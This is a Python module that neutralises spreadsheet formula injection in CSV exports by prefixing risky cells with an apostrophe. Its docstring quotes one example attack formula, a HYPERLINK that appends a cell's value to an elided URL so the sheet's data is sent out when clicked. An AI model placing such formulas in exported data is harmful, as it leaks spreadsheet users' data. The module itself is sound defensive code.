"""Cells of CSV files people open in a spreadsheet program: text that would start a formula is made text.

Excel and WPS run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one)
as a formula, and a formula such as ``=HYPERLINK("http://…?"&A1, "点此查看")`` can send the sheet's other cells
away when clicked ("CSV injection"). Case titles, applicant names, matter and department names all reach the
exports from people's input, so every CSV writer passes its cells through :func:`spreadsheet_safe`, which puts
an apostrophe before such text (the spreadsheet's own mark for "this is text") and leaves numbers alone.
"""
from __future__ import annotations

from typing import Any

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """Return ``value`` for a CSV cell: "" for None, text that could start a formula behind an apostrophe."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_LEADS):
        return "'" + value
    return value
